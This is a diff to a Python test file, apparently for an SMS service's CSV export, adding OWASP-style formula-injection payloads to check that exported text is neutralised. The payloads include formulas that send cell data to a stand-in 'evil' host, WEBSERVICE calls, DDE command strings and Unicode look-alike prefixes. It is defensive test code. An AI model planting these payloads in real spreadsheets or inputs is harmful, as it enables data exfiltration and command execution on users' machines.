@@ -162,12 +162,16 @@ def test_metrics_filters_by_topic_nature_and_urgency_are_exact(loaded):
     assert none["totals"]["messages"] == 0
 
 
-FORMULAS = ["=HYPERLINK(\"http://evil\",\"x\")", "+SUM(1,2)", "-2+3", "@cmd", "\t=1", "=cmd|' /C calc'!A0"]
+FORMULAS = [  # OWASP CSV injection: every leading character a spreadsheet reads as a formula
+    "=HYPERLINK(\"http://evil\",\"x\")", "+SUM(1,2)", "-2+3", "@cmd", "\t=1", "=cmd|' /C calc'!A0",
+    "=IMPORTXML(CONCAT(\"http://evil/?\",A1),\"//a\")", "=WEBSERVICE(\"http://evil\")", "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\uff1d1+1", "\uff0bSUM(1)", "\uff0d1", "\uff20A1", "\r=1+1", "-=1", "+=1", "=1;=2",
+]
 
 
 def test_csv_export_neutralises_formulas_and_keeps_the_text(client):
     for i, text in enumerate(FORMULAS):
-        post_sms(client, twilio_params(body=text, sid=f"SM{i:032d}", to="+447700900000"))
+        post_sms(client, twilio_params(body=text, sid=f"SM{i:032d}", to="+447700900000", frm=f"+4477009004{i:02d}"))
     response = client.http.get("/api/export.csv", headers=auth())
     assert response.status_code == 200
     assert response.headers["Content-Type"].startswith("text/csv")
@@ -176,7 +180,8 @@ def test_csv_export_neutralises_formulas_and_keeps_the_text(client):
 
     rows = list(csv.DictReader(io.StringIO(response.body.decode())))
     assert sorted(r["text"] for r in rows) == sorted("'" + t.strip() for t in FORMULAS)  # bodies are trimmed
-    assert all(not r["text"].startswith(("=", "+", "-", "@", "\t")) for r in rows)
+    assert all(not r["text"].startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"))
+               for r in rows)
     assert all(r["from"].startswith("'+44") for r in rows)  # masked numbers start with + too
 
 
